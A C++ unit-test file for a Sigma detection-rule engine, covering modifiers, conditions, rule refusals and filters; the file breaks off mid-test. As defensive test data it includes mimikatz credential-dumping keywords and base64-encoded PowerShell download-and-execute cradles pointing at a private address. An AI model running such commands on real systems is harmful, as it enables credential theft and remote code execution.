// The Sigma language as the specification defines it: one test per value
// form, modifier and condition form, with the corner cases of each.
#include <gtest/gtest.h>

#include "tests/unit/operators/sigma_support.hpp"

using namespace socstream;
using namespace socstream::testing;

namespace {

using Ids = std::vector<std::string>;

SigmaRig one(const std::string& detection) { return SigmaRig(sigma_rule(detection)); }

}  // namespace

TEST(SigmaValues, MapsAreAndListsAreOr) {
  auto s = one(R"(    sel:
        Image|endswith: '\cmd.exe'
        CommandLine|contains:
            - 'whoami'
            - 'net user'
    condition: sel)");
  EXPECT_TRUE(s.hits(R"({"Image":"C:\\Windows\\System32\\cmd.exe","CommandLine":"cmd /c whoami"})"));
  EXPECT_TRUE(s.hits(R"({"Image":"C:\\Windows\\System32\\cmd.exe","CommandLine":"net user bob"})"));
  EXPECT_FALSE(s.hits(R"({"Image":"C:\\Windows\\System32\\cmd.exe","CommandLine":"dir"})"));
  EXPECT_FALSE(s.hits(R"({"Image":"C:\\Windows\\System32\\pwsh.exe","CommandLine":"whoami"})"));
  EXPECT_FALSE(s.hits(R"({"CommandLine":"whoami"})")) << "a missing field fails its test";
}

TEST(SigmaValues, CaseInsensitiveUnlessCased) {
  auto s = one(R"(    sel:
        Image: 'C:\Windows\System32\WHOAMI.exe'
    condition: sel)");
  EXPECT_TRUE(s.hits(R"({"Image":"c:\\windows\\system32\\whoami.EXE"})"));
  EXPECT_FALSE(s.hits(R"({"Image":"c:\\windows\\system32\\whoami.exe.bak"})")) << "a plain value is the whole value";
  auto c = one(R"(    sel:
        CommandLine|cased|contains: 'IEX'
    condition: sel)");
  EXPECT_TRUE(c.hits(R"({"CommandLine":"powershell IEX x"})"));
  EXPECT_FALSE(c.hits(R"({"CommandLine":"powershell iex x"})"));
}

TEST(SigmaValues, WildcardsAndEscapes) {
  auto s = one(R"(    star:
        A: 'ab*yz'
    one:
        B: 'v?.exe'
    escaped_star:
        C: 'a\*b'
    escaped_question:
        D: 'what\?'
    backslash_then_star:
        E: 'C:\\*'
    plain_backslash:
        F: 'C:\Windows\'
    four:
        G: 'x\\\\y'
    condition: 1 of them)");
  auto rule = [&](const std::string& json) { return s.hits(json); };
  EXPECT_TRUE(rule(R"({"A":"abyz"})"));
  EXPECT_TRUE(rule(R"({"A":"ab-anything-yz"})"));
  EXPECT_FALSE(rule(R"({"A":"ab-anything-y"})"));
  EXPECT_TRUE(rule(R"({"B":"v1.exe"})"));
  EXPECT_TRUE(rule("{\"B\":\"v\xc3\xa9.exe\"}")) << "? is one character, not one byte";
  EXPECT_FALSE(rule(R"({"B":"v12.exe"})"));
  EXPECT_TRUE(rule(R"({"C":"a*b"})"));
  EXPECT_FALSE(rule(R"({"C":"axxb"})")) << "an escaped star is a star";
  EXPECT_TRUE(rule(R"({"D":"what?"})"));
  EXPECT_FALSE(rule(R"({"D":"whatx"})"));
  EXPECT_TRUE(rule(R"({"E":"C:\\anything"})")) << "\\\\* is a backslash then a wildcard";
  EXPECT_FALSE(rule(R"({"E":"D:\\anything"})"));
  EXPECT_TRUE(rule(R"({"F":"C:\\Windows\\"})")) << "a backslash before anything else is itself";
  EXPECT_TRUE(rule(R"({"G":"x\\\\y"})")) << "four backslashes are two";
  EXPECT_FALSE(rule(R"({"G":"x\\y"})"));
}

TEST(SigmaValues, NullAndEmpty) {
  auto s = SigmaRig(sigma_rule(R"(    sel:
        EventID: 4738
    filter_null:
        PasswordLastSet: null
    condition: sel and not filter_null)") +
                    "---\n" + sigma_rule(R"(    sel:
        Field: ''
    condition: sel)",
                                         "r2"));
  EXPECT_EQ(s.match(R"({"EventID":4738,"PasswordLastSet":"2020-01-01"})"), Ids{"r1"});
  EXPECT_EQ(s.match(R"({"EventID":4738,"PasswordLastSet":null})"), Ids{}) << "null is JSON null";
  EXPECT_EQ(s.match(R"({"EventID":4738})"), Ids{}) << "null is a missing field too";
  EXPECT_EQ(s.match(R"({"Field":""})"), Ids{"r2"});
  EXPECT_EQ(s.match(R"({"Field":"x"})"), Ids{});
  EXPECT_EQ(s.match(R"({"Other":""})"), Ids{}) << "'' is an empty value, not a missing one";
}

TEST(SigmaValues, NumbersBooleansAndNesting) {
  auto s = one(R"(    sel:
        EventID: 4688
        Event.System.Level: 4
        Signed: false
    condition: sel)");
  EXPECT_TRUE(s.hits(R"({"EventID":4688,"Event":{"System":{"Level":4}},"Signed":false})"));
  EXPECT_TRUE(s.hits(R"({"EventID":"4688","Event":{"System":{"Level":"4"}},"Signed":"false"})"))
      << "numbers and booleans compare as their text";
  EXPECT_FALSE(s.hits(R"({"EventID":46880,"Event":{"System":{"Level":4}},"Signed":false})"));
}

TEST(SigmaValues, ArraysMatchAnyElement) {
  auto s = one(R"(    sel:
        tags|contains: 'evil'
        ports: 445
    condition: sel)");
  EXPECT_TRUE(s.hits(R"({"tags":["good","EVIL-thing"],"ports":[80,445]})"));
  EXPECT_FALSE(s.hits(R"({"tags":["good"],"ports":[80,445]})"));
  EXPECT_FALSE(s.hits(R"({"tags":["evil"],"ports":[4450]})"));
}

TEST(SigmaValues, Keywords) {
  auto s = SigmaRig(sigma_rule(R"(    keywords:
        - 'event::clear'
        - 'sekurlsa'
    condition: keywords)") +
                    "---\n" + sigma_rule(R"(    keywords_all:
        '|all':
            - 'OabVirtualDirectory'
            - ' -ExternalUrl '
    condition: keywords_all)",
                                         "r2"));
  EXPECT_EQ(s.match(R"({"Message":"mimikatz # EVENT::Clear done"})"), Ids{"r1"}) << "anywhere, any case";
  EXPECT_EQ(s.match(R"({"a":"x","b":"privilege::debug sekurlsa::logonpasswords"})"), Ids{"r1"});
  EXPECT_EQ(s.match(R"({"cmd":"Set-OabVirtualDirectory -ExternalUrl http://x"})"), Ids{"r2"});
  EXPECT_EQ(s.match(R"({"cmd":"Set-OabVirtualDirectory"})"), Ids{});
}

TEST(SigmaConditions, PrecedenceAndParentheses) {
  // not > and > or: a or b and not c == a or (b and (not c)).
  auto s = one(R"(    a: {A: '1'}
    b: {B: '1'}
    c: {C: '1'}
    condition: a or b and not c)");
  EXPECT_TRUE(s.hits(R"({"A":"1","C":"1"})"));
  EXPECT_TRUE(s.hits(R"({"B":"1"})"));
  EXPECT_FALSE(s.hits(R"({"B":"1","C":"1"})"));
  auto p = one(R"(    a: {A: '1'}
    b: {B: '1'}
    c: {C: '1'}
    condition: (a or b) and not c)");
  EXPECT_FALSE(p.hits(R"({"A":"1","C":"1"})"));
  EXPECT_TRUE(p.hits(R"({"A":"1"})"));
}

TEST(SigmaConditions, OfPatternsAndThem) {
  auto s = SigmaRig(sigma_rule(R"(    selection_a: {A: '1'}
    selection_b: {B: '1'}
    filter_x: {X: '1'}
    condition: all of selection_* and not 1 of filter_*)") +
                    "---\n" + sigma_rule(R"(    one: {A: '1'}
    two: {B: '1'}
    _hidden: {H: '1'}
    condition: all of them)",
                                         "r2") +
                    "---\n" + sigma_rule(R"(    one: {A: '9'}
    _hidden: {H: '1'}
    condition: 1 of them)",
                                         "r3"));
  EXPECT_EQ(s.match(R"({"A":"1","B":"1"})"), (Ids{"r1", "r2"})) << "all of them skips _hidden";
  EXPECT_EQ(s.match(R"({"A":"1","B":"1","X":"1"})"), (Ids{"r2"}));
  EXPECT_EQ(s.match(R"({"A":"1"})"), (Ids{}));
  EXPECT_EQ(s.match(R"({"H":"1"})"), (Ids{})) << "1 of them does not count _hidden";
}

TEST(SigmaConditions, SeveralConditionsAreOr) {
  auto s = one(R"(    a: {A: '1'}
    b: {B: '1'}
    condition:
        - a
        - b)");
  EXPECT_TRUE(s.hits(R"({"A":"1"})"));
  EXPECT_TRUE(s.hits(R"({"B":"1"})"));
  EXPECT_FALSE(s.hits(R"({"C":"1"})"));
}

TEST(SigmaModifiers, StartsEndsContainsAll) {
  auto s = one(R"(    sel:
        A|startswith: 'pre'
        B|endswith: 'post'
        C|contains|all:
            - 'one'
            - 'two'
    condition: sel)");
  EXPECT_TRUE(s.hits(R"({"A":"PREfix","B":"the post","C":"two and one"})"));
  EXPECT_FALSE(s.hits(R"({"A":"xpre","B":"the post","C":"two and one"})"));
  EXPECT_FALSE(s.hits(R"({"A":"pre","B":"posts","C":"two and one"})"));
  EXPECT_FALSE(s.hits(R"({"A":"pre","B":"post","C":"only one"})")) << "all: every value";
}

TEST(SigmaModifiers, RegexWithFlags) {
  auto s = SigmaRig(sigma_rule(R"(    sel:
        CommandLine|re: '-e(nc|ncodedcommand)? [A-Za-z0-9+/=]{20,}'
    condition: sel)") +
                    "---\n" + sigma_rule(R"(    sel:
        A|re|i: '^abc$'
    condition: sel)",
                                         "r2") +
                    "---\n" + sigma_rule(R"(    sel:
        B|re|m: '^second$'
    condition: sel)",
                                         "r3") +
                    "---\n" + sigma_rule(R"(    sel:
        C|re|s: 'a.b'
    condition: sel)",
                                         "r4"));
  EXPECT_EQ(s.match(R"({"CommandLine":"powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBi"})"), Ids{"r1"});
  EXPECT_EQ(s.match(R"({"CommandLine":"powershell -ENC SQBFAFgAIAAoAE4AZQB3AC0ATwBi"})"), Ids{})
      << "a regex is case-sensitive without i";
  EXPECT_EQ(s.match(R"({"A":"ABC"})"), Ids{"r2"});
  EXPECT_EQ(s.match(R"({"B":"first\nsecond\nthird"})"), Ids{"r3"});
  EXPECT_EQ(s.match(R"({"C":"a\nb"})"), Ids{"r4"});
  auto no_s = one(R"(    sel:
        C|re: 'a.b'
    condition: sel)");
  EXPECT_FALSE(no_s.hits(R"({"C":"a\nb"})")) << "without s, the dot does not match a newline";
}

TEST(SigmaModifiers, Windash) {
  auto s = one(R"(    sel:
        CommandLine|windash|contains: ' -exec bypass'
    condition: sel)");
  for (const char* dash : {"-", "/", "\xE2\x80\x93", "\xE2\x80\x94", "\xE2\x80\x95"})
    EXPECT_TRUE(s.hits(std::string(R"({"CommandLine":"powershell )") + dash + R"(exec bypass"})")) << dash;
  EXPECT_FALSE(s.hits(R"({"CommandLine":"powershell _exec bypass"})"));
  EXPECT_FALSE(s.hits(R"({"CommandLine":"powershell exec bypass"})"));
}

TEST(SigmaModifiers, Cidr) {
  auto s = one(R"(    sel:
        DestinationIp|cidr:
            - '10.0.0.0/8'
            - '192.168.1.128/25'
            - 'fe80::/10'
    condition: sel)");
  EXPECT_TRUE(s.hits(R"({"DestinationIp":"10.200.3.4"})"));
  EXPECT_TRUE(s.hits(R"({"DestinationIp":"192.168.1.200"})"));
  EXPECT_FALSE(s.hits(R"({"DestinationIp":"192.168.1.100"})"));
  EXPECT_TRUE(s.hits(R"({"DestinationIp":"fe80::1:2"})"));
  EXPECT_TRUE(s.hits(R"({"DestinationIp":"FE80:0000::0001"})")) << "any spelling of the address";
  EXPECT_FALSE(s.hits(R"({"DestinationIp":"fec0::1"})"));
  EXPECT_FALSE(s.hits(R"({"DestinationIp":"11.0.0.1"})"));
  EXPECT_FALSE(s.hits(R"({"DestinationIp":"not an ip"})"));
}

TEST(SigmaModifiers, Base64AndOffsetsAndWide) {
  auto s = SigmaRig(sigma_rule(R"(    sel:
        CommandLine|base64offset|contains: 'DownloadString('
    condition: sel)") +
                    "---\n" + sigma_rule(R"(    sel:
        CommandLine|wide|base64offset|contains: 'New-Object Net.WebClient'
    condition: sel)",
                                         "r2") +
                    "---\n" + sigma_rule(R"(    sel:
        Payload|base64: 'whoami'
    condition: sel)",
                                         "r3") +
                    "---\n" + sigma_rule(R"(    sel:
        Payload|utf16be|base64: 'cmd'
    condition: sel)",
                                         "r4") +
                    "---\n" + sigma_rule(R"(    sel:
        Payload|utf16|base64: 'whoami'
    condition: sel)",
                                         "r5"));
  // The same text base64-encoded at each of the three offsets of a 3-byte group.
  EXPECT_EQ(s.match(R"({"CommandLine":"powershell -e SUVYIChOZXctT2JqZWN0IE5ldC5XZWJDbGllbnQpLkRvd25sb2FkU3RyaW5nKCJodHRwOi8vMTAuMC4wLjUvYS5wczEiKQ=="})"),
            Ids{"r1"});
  EXPECT_EQ(s.match(R"({"CommandLine":"x eHhJRVggKE5ldy1PYmplY3QgTmV0LldlYkNsaWVudCkuRG93bmxvYWRTdHJpbmcoImh0dHA6Ly8xMC4wLjAuNS9hLnBzMSIp"})"),
            Ids{"r1"});
  EXPECT_EQ(s.match(R"({"CommandLine":"powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAiAGgAdAB0AHAAOgAvAC8AMQAwAC4AMAAuADAALgA1AC8AYQAuAHAAcwAxACIAKQA="})"),
            Ids{"r2"})
      << "PowerShell -EncodedCommand is UTF-16LE under base64";
  EXPECT_EQ(s.match(R"({"Payload":"d2hvYW1p"})"), Ids{"r3"});
  EXPECT_EQ(s.match(R"({"Payload":"AGMAbQBk"})"), Ids{"r4"});
  EXPECT_EQ(s.match(R"({"Payload":"//53AGgAbwBhAG0AaQA="})"), Ids{"r5"}) << "utf16 starts with the FF FE mark";
}

TEST(SigmaModifiers, ExistsAndComparisons) {
  auto s = SigmaRig(sigma_rule(R"(    sel:
        PasswordLastSet|exists: true
        Other|exists: false
    condition: sel)") +
                    "---\n" + sigma_rule(R"(    sel:
        Count|gt: 10
        Count|lte: 20
    condition: sel)",
                                         "r2") +
                    "---\n" + sigma_rule(R"(    sel:
        Size|gte: 1.5
        Size|lt: 2
    condition: sel)",
                                         "r3"));
  EXPECT_EQ(s.match(R"({"PasswordLastSet":null})"), Ids{"r1"}) << "exists sees a field whatever its value";
  EXPECT_EQ(s.match(R"({"PasswordLastSet":"x","Other":1})"), Ids{});
  EXPECT_EQ(s.match(R"({"Count":11})"), Ids{"r2"});
  EXPECT_EQ(s.match(R"({"Count":"20"})"), Ids{"r2"});
  EXPECT_EQ(s.match(R"({"Count":21})"), Ids{});
  EXPECT_EQ(s.match(R"({"Count":10})"), Ids{});
  EXPECT_EQ(s.match(R"({"Count":"many"})"), Ids{});
  EXPECT_EQ(s.match(R"({"Size":1.5})"), Ids{"r3"});
  EXPECT_EQ(s.match(R"({"Size":2})"), Ids{});
}

TEST(SigmaModifiers, NeqNegatesTheItem) {
  auto s = one(R"(    sel:
        EventID: 4624
        LogonType|neq:
            - 2
            - 10
    condition: sel)");
  EXPECT_TRUE(s.hits(R"({"EventID":4624,"LogonType":3})"));
  EXPECT_FALSE(s.hits(R"({"EventID":4624,"LogonType":2})"));
  EXPECT_FALSE(s.hits(R"({"EventID":4624,"LogonType":10})"));
}

TEST(SigmaModifiers, Fieldref) {
  auto s = SigmaRig(sigma_rule(R"(    sel:
        TargetUserName|fieldref: SubjectUserName
    condition: sel)") +
                    "---\n" + sigma_rule(R"(    sel:
        Image|fieldref|startswith: CurrentDirectory
    condition: sel)",
                                         "r2"));
  EXPECT_EQ(s.match(R"({"TargetUserName":"Bob","SubjectUserName":"bob"})"), Ids{"r1"});
  EXPECT_EQ(s.match(R"({"TargetUserName":"bob","SubjectUserName":"alice"})"), Ids{});
  EXPECT_EQ(s.match(R"({"TargetUserName":"bob"})"), Ids{});
  EXPECT_EQ(s.match(R"({"Image":"C:\\Temp\\x.exe","CurrentDirectory":"c:\\temp\\"})"), Ids{"r2"});
}

TEST(SigmaModifiers, ExpandPlaceholders) {
  SigmaRig::Options o;
  o.placeholders["Admins"] = {"adm_*", "root"};
  auto s = SigmaRig(sigma_rule(R"(    sel:
        User|expand: '%Admins%'
    condition: sel)"),
                    o);
  EXPECT_TRUE(s.hits(R"({"User":"ADM_bob"})"));
  EXPECT_TRUE(s.hits(R"({"User":"root"})"));
  EXPECT_FALSE(s.hits(R"({"User":"rooted"})"));
  auto missing = SigmaRig(sigma_rule(R"(    sel:
        User|expand: '%Nobody%'
    condition: sel)"));
  EXPECT_EQ(missing.refusal_reasons(), std::vector<std::string>{"unknown_placeholder"});
  EXPECT_EQ(missing.rules().stats().loaded, 0u) << "a rule whose placeholder has no value is refused, not run";
  auto literal = one(R"(    sel:
        User: '%Admins%'
    condition: sel)");
  EXPECT_TRUE(literal.hits(R"({"User":"%admins%"})")) << "without expand, % is a character";
}

TEST(SigmaRules, RefusedWithReasonAndPosition) {
  struct Case {
    std::string yaml, reason;
    int line;
  };
  const std::vector<Case> cases{
      {sigma_rule("    sel:\n        Image|endswith|bogus: 'x'\n    condition: sel"), "unknown_modifier", 7},
      {sigma_rule("    sel:\n        Image: 'x'\n    condition: sel and nosuch"), "bad_condition", 8},
      {sigma_rule("    sel:\n        Image: 'x'\n    condition: sel | count() > 5"), "unsupported", 8},
      {sigma_rule("    sel:\n        Image|re: '(?=lookahead)x'\n    condition: sel"), "regex_refused", 7},
      {sigma_rule("    sel:\n        Image|base64: 'a*b'\n    condition: sel"), "bad_value", 7},
      {sigma_rule("    sel:\n        Ip|cidr: '10.0.0.0/33'\n    condition: sel"), "bad_value", 7},
      {sigma_rule("    sel:\n        N|gt: 'ten'\n    condition: sel"), "bad_value", 7},
      {"title: t\nid: x\nlogsource: {product: windows}\n", "not_a_rule", 1},
      {"title: t\nid: x\nlogsource: {product: windows}\ndetection:\n    sel: {A: 1}\n", "bad_condition", 5},
      {sigma_rule("    sel:\n        A: {nested: map}\n    condition: sel"), "bad_detection", 7},
      {sigma_rule("    sel:\n        Image: 'x'\n    condition: (sel"), "bad_condition", 8},
      {sigma_rule("    sel:\n        Image: 'x'\n    condition: 2 of sel"), "bad_condition", 8},
  };
  for (const auto& c : cases) {
    SigmaRig s(c.yaml);
    ASSERT_EQ(s.rules().refused().size(), 1u) << c.yaml;
    const auto& r = s.rules().refused()[0];
    EXPECT_EQ(r.reason, c.reason) << c.yaml << "\n" << r.str();
    EXPECT_EQ(r.where.line, c.line) << r.str();
    EXPECT_GT(r.where.column, 0) << r.str();
    EXPECT_NE(r.where.file.find("rules.yml"), std::string::npos);
  }
  SigmaRig unknown(sigma_rule("    sel:\n        Image|endwith: 'x'\n    condition: sel"));
  ASSERT_EQ(unknown.rules().refused().size(), 1u);
  EXPECT_NE(unknown.rules().refused()[0].message.find("did you mean 'endswith'"), std::string::npos);
  SigmaRig cond(sigma_rule("    selection:\n        Image: 'x'\n    condition: selectoin"));
  ASSERT_EQ(cond.rules().refused().size(), 1u);
  EXPECT_NE(cond.rules().refused()[0].message.find("did you mean 'selection'"), std::string::npos);
  EXPECT_EQ(cond.rules().refused()[0].rule_id, "r1");
  EXPECT_EQ(cond.rules().refused()[0].title, "rule r1");
}

// Every reason the loader and compiler give, each with the place a user must
// edit: the line and column of the offending node, or the file alone where no
// line exists (a path that matched nothing, a file that cannot be read).
TEST(SigmaRules, EveryRefusalKindNamesItsPlace) {
  struct Case {
    std::string what, yaml, reason;
    int line, column;
    std::string rule_id;  // what the refusal names the rule by ("" when the document has no usable id)
  };
  // Lines 1-7: a rule the correlations below can count; line 8 ends its document.
  const std::string base = sigma_rule("    sel: {EventID: 4625}\n    condition: sel", "base") + "---\n";
  auto correlation = [&](const std::string& body) {
    // Lines 9-11, then `body` from line 12, indented as the correlation's keys.
    return base + "title: Corr\nid: corr\ncorrelation:\n" + body;
  };
  const std::vector<Case> cases{
      {"a time-part modifier", sigma_rule("    sel:\n        TimeCreated|minute: 5\n    condition: sel"),
       "unsupported_modifier", 7, 9, "r1"},
      {"|expand without a value", sigma_rule("    sel:\n        User|expand: '%Nobody%'\n    condition: sel"),
       "unknown_placeholder", 7, 22, "r1"},
      {"a level Sigma does not have",
       "title: t\nid: lv\nlevel: severe\nlogsource: {product: windows}\ndetection:\n    sel: {A: x}\n    condition: sel\n",
       "bad_rule", 3, 8, "lv"},
      {"a title that is a list",
       "title: [a, b]\nid: tl\nlogsource: {product: windows}\ndetection:\n    sel: {A: x}\n    condition: sel\n", "bad_rule",
       1, 8, "tl"},
      {"a Sigma 1.0 collection",
       "action: global\ntitle: t\nid: ac\nlogsource: {product: windows}\ndetection:\n    sel: {A: x}\n    condition: sel\n",
       "unsupported", 1, 9, "ac"},
      {"a Sigma 1.0 timeframe", sigma_rule("    sel: {A: x}\n    timeframe: 5m\n    condition: sel"), "unsupported", 7, 5,
       "r1"},
      {"no detection", "title: t\nid: nd\nlogsource: {product: windows}\n", "not_a_rule", 1, 1, "nd"},
      {"the same id twice",
       sigma_rule("    sel: {A: x}\n    condition: sel", "dup") + "---\n" + sigma_rule("    sel: {A: y}\n    condition: sel", "dup"),
       "duplicate_id", 9, 1, "dup"},
      {"a timespan without a unit",
       correlation("    type: event_count\n    rules: [base]\n    timespan: 5x\n    condition: {gte: 2}\n"),
       "bad_correlation", 14, 15, "corr"},
      {"a threshold that is not a number",
       correlation("    type: event_count\n    rules: [base]\n    timespan: 5m\n    condition: {gte: many}\n"),
       "bad_correlation", 15, 22, "corr"},
      {"an unknown correlation key",
       correlation("    type: event_count\n    rules: [base]\n    timespan: 5m\n    condition: {gte: 2}\n    groupby: [User]\n"),
       "bad_correlation", 16, 5, "corr"},
      {"an unknown correlation type",
       correlation("    type: sliding_count\n    rules: [base]\n    timespan: 5m\n    condition: {gte: 2}\n"),
       "unsupported_correlation", 12, 11, "corr"},
      {"a condition without a lower bound",
       correlation("    type: event_count\n    rules: [base]\n    timespan: 5m\n    condition: {lt: 2}\n"),
       "unsupported_correlation", 15, 16, "corr"},
      {"a rule that is not loaded",
       correlation("    type: event_count\n    rules: [nosuch]\n    timespan: 5m\n    condition: {gte: 2}\n"), "unknown_rule",
       12, 5, "corr"},
      {"an alias that leaves a rule out",
       correlation("    type: temporal\n    rules: [base, r2]\n    group-by: [who]\n    aliases:\n        who: {base: User}\n"
                   "    timespan: 5m\n") +
           "---\n" + sigma_rule("    sel: {EventID: 4624}\n    condition: sel", "r2"),
       "bad_correlation", 12, 5, "corr"},
  };
  for (const auto& c : cases) {
    SigmaRig s(c.yaml);
    ASSERT_EQ(s.rules().refused().size(), 1u) << c.what << "\n" << s.rules().summary();
    const auto& r = s.rules().refused()[0];
    EXPECT_EQ(r.reason, c.reason) << c.what << ": " << r.str();
    EXPECT_EQ(r.where.line, c.line) << c.what << ": " << r.str();
    EXPECT_EQ(r.where.column, c.column) << c.what << ": " << r.str();
    EXPECT_EQ(r.rule_id, c.rule_id) << c.what << ": " << r.str();
    EXPECT_NE(r.where.file.find("rules.yml"), std::string::npos) << c.what;
  }

  // A file that does not parse: the parser's own position.
  SigmaRig syntax("title: t\nid: y\nlogsource: {product: windows\ndetection:\n");
  ASSERT_EQ(syntax.rules().refused().size(), 1u) << syntax.rules().summary();
  const auto& y = syntax.rules().refused()[0];
  EXPECT_EQ(y.reason, "yaml_syntax") << y.str();
  EXPECT_EQ(y.where.line, 4) << y.str();
  EXPECT_EQ(y.where.column, 10) << "where the unclosed flow map had to end: " << y.str();

  // A document yaml-cpp's LoadAll would loop on for ever (found by the sigma
  // fuzzer): the file is refused, at the document the parser cannot get past.
  SigmaRig stuck("title: t\nid: z\nlogsource: {product: windows}\ndetection: {s: {a: 1}, condition: s}\n---\n, title: x\n");
  ASSERT_EQ(stuck.rules().refused().size(), 1u) << stuck.rules().summary();
  EXPECT_EQ(stuck.rules().refused()[0].reason, "yaml_syntax") << stuck.rules().refused()[0].str();
  EXPECT_EQ(stuck.rules().refused()[0].where.line, 6) << stuck.rules().refused()[0].str();

  // Paths: no line to give, so the file or pattern as written, and line 0.
  TempDir d;
  std::vector<sigma::Refusal> refused;
  const auto pattern = (d.path() / "nowhere" / "*.yml").string();
  const auto missing = d.path() / "missing.yml";
  EXPECT_TRUE(sigma::expand_rule_paths({pattern, missing}, refused).empty());
  ASSERT_EQ(refused.size(), 2u);
  for (const auto& r : refused) {
    EXPECT_EQ(r.reason, "no_rules") << r.str();
    EXPECT_EQ(r.where.line, 0) << r.str();
  }
  EXPECT_EQ(refused[0].where.file, pattern);
  EXPECT_EQ(refused[0].message, "the pattern matches no rule file");
  EXPECT_EQ(refused[1].where.file, missing.string());
  EXPECT_EQ(refused[1].message, "no such file or directory");
  // A file gone between listing and reading (or one that cannot be opened).
  refused.clear();
  EXPECT_TRUE(sigma::load_rules({missing}, refused).empty());
  ASSERT_EQ(refused.size(), 1u);
  EXPECT_EQ(refused[0].reason, "unreadable") << refused[0].str();
  EXPECT_EQ(refused[0].where.file, missing.string());
  EXPECT_EQ(refused[0].where.line, 0);
}

TEST(SigmaRules, ARefusedRuleDoesNotStopTheOthers) {
  SigmaRig s(sigma_rule("    sel:\n        A|bogus: 'x'\n    condition: sel", "bad") + "---\n" +
             sigma_rule("    sel:\n        A: 'x'\n    condition: sel", "good") + "---\n" +
             sigma_rule("    sel:\n        A: 'y'\n    condition: sel", "good"));
  EXPECT_EQ(s.refusal_reasons(), (std::vector<std::string>{"unknown_modifier", "duplicate_id"}));
  EXPECT_EQ(s.match(R"({"A":"x"})"), Ids{"good"});
}

TEST(SigmaRules, SummaryListsRefusalsByReasonUpToItsCap) {
  std::string rules;
  for (int i = 0; i < 6; ++i)
    rules += (i ? "---\n" : "") + sigma_rule("    sel:\n        A|bogus: 'x'\n    condition: sel", "mod" + std::to_string(i));
  rules += "---\n" + sigma_rule("    sel:\n        A|re: '(?=x)'\n    condition: sel", "re0");
  SigmaRig s(rules);
  ASSERT_EQ(s.rules().refused().size(), 7u);
  auto count = [](const std::string& text, const std::string& what) {
    size_t n = 0;
    for (size_t at = text.find(what); at != std::string::npos; at = text.find(what, at + 1)) ++n;
    return n;
  };
  const std::string all = s.rules().summary(SIZE_MAX);
  EXPECT_EQ(count(all, ": unknown_modifier: "), 6u) << all;
  EXPECT_EQ(count(all, ": regex_refused: "), 1u) << all;
  EXPECT_EQ(all.find("not listed"), std::string::npos) << all;
  EXPECT_LT(all.find("regex_refused (1):"), all.find("unknown_modifier (6):")) << "reasons in order, each with its count";
  const std::string capped = s.rules().summary(3);
  EXPECT_EQ(count(capped, "rule 'mod") + count(capped, "rule 're0'"), 3u) << capped;
  EXPECT_NE(capped.find("unknown_modifier (6):"), std::string::npos) << "every reason keeps its count\n" << capped;
  EXPECT_NE(capped.find("... 4 more not listed"), std::string::npos) << capped;
}

TEST(SigmaFilters, StatusLoadsOnlyTheStatusesAsked) {
  // Five rules that all match the same event, one per status (and one without).
  auto rule = [](const std::string& id, const std::string& status) {
    return "title: rule " + id + "\nid: " + id + (status.empty() ? "" : "\nstatus: " + status) +
           "\nlogsource: {product: windows}\ndetection:\n    sel: {Image|endswith: '\\whoami.exe'}\n    condition: sel\n";
  };
  const std::string rules = rule("stable", "stable") + "---\n" + rule("test", "test") + "---\n" +
                            rule("experimental", "experimental") + "---\n" + rule("deprecated", "deprecated") + "---\n" +
                            rule("unsupported", "unsupported") + "---\n" + rule("none", "");
  const std::string whoami = R"({"Image":"C:\\Windows\\System32\\whoami.exe"})";

  SigmaRig defaults(rules);
  EXPECT_EQ(defaults.rules().stats().loaded, 4u);
  EXPECT_EQ(defaults.rules().stats().filtered, 2u) << "deprecated and unsupported are left out by default";
  EXPECT_TRUE(defaults.rules().refused().empty()) << "a filtered rule is not a refused one";
  EXPECT_EQ(defaults.match(whoami), (Ids{"stable", "test", "experimental", "none"}));

  SigmaRig stable(rules, SigmaRig::Options{.status = {"stable"}});
  EXPECT_EQ(stable.rules().stats().loaded, 1u);
  EXPECT_EQ(stable.rules().stats().filtered, 5u) << "a rule without a status has none of those asked";
  EXPECT_EQ(stable.match(whoami), Ids{"stable"});

  SigmaRig old(rules, SigmaRig::Options{.status = {"deprecated", "test"}});
  EXPECT_EQ(old.rules().stats().filtered, 4u);
  EXPECT_EQ(old.match(whoami), (Ids{"test", "deprecated"})) << "asking for deprecated rules loads them";
}

TEST(SigmaFilters, LogSourceLoadsOnlyThatLogSource) {
  // The same detection under four log sources; pipeline `none` would run all four on any event.
  auto rule = [](const std::string& id, const std::string& logsource) {
    return "title: rule " + id + "\nid: " + id + "\nlogsource: " + logsource +
           "\ndetection:\n    sel: {CommandLine|contains: 'whoami'}\n    condition: sel\n";
  };
  const std::string rules = rule("win_proc", "{product: windows, category: process_creation}") + "---\n" +
                            rule("win_net", "{product: windows, category: network_connection}") + "---\n" +
                            rule("win_ps", "{product: windows, service: powershell}") + "---\n" +
                            rule("linux_proc", "{product: linux, category: process_creation}");
  const std::string event = R"({"CommandLine":"cmd /c whoami"})";
  SigmaRig all(rules);
  EXPECT_EQ(all.match(event), (Ids{"win_proc", "win_net", "win_ps", "linux_proc"}));

  SigmaRig proc(rules, SigmaRig::Options{.logsource = {"windows", "process_creation", ""}});
  EXPECT_EQ(proc.rules().stats().loaded, 1u);
  EXPECT_EQ(proc.rules().stats().filtered, 3u);
  EXPECT_TRUE(proc.rules().stats().skipped.empty()) << "filtered out, not 'not for this pipeline'";
  EXPECT_EQ(proc.match(event), Ids{"win_proc"});

  SigmaRig windows(rules, SigmaRig::Options{.logsource = {"windows", "", ""}});
  EXPECT_EQ(windows.rules().stats().filtered, 1u);
  EXPECT_EQ(windows.match(event), (Ids{"win_proc", "win_net", "win_ps"}));

  SigmaRig powershell(rules, SigmaRig::Options{.logsource = {"", "", "powershell"}});
  EXPECT_EQ(powershell.rules().stats().filtered, 3u);
  EXPECT_EQ(powershell.match(event), Ids{"win_ps"});

  SigmaRig both(rules, SigmaRig::Options{.status = {"stable"}, .logsource = {"windows", "", ""}});
  EXPECT_EQ(both.rules().stats().loaded, 0u) << "both filters hold: none of these rules has a status";
  EXPECT_EQ(both.match(event), Ids{});
}

TEST(SigmaRules, MetadataForAlerts) {
  SigmaRig s(R"(title: Whoami
id: 929a690e-bef0-4204-a928-ef5e620d6fcc
status: test
description: Detects whoami
author: Florian Roth
references: [https://example.com]
falsepositives: [Admins]
level: critical
tags: [attack.discovery, attack.t1033, attack.stealth, car.2016-03-001]
logsource: {category: process_creation, product: windows}
detection:
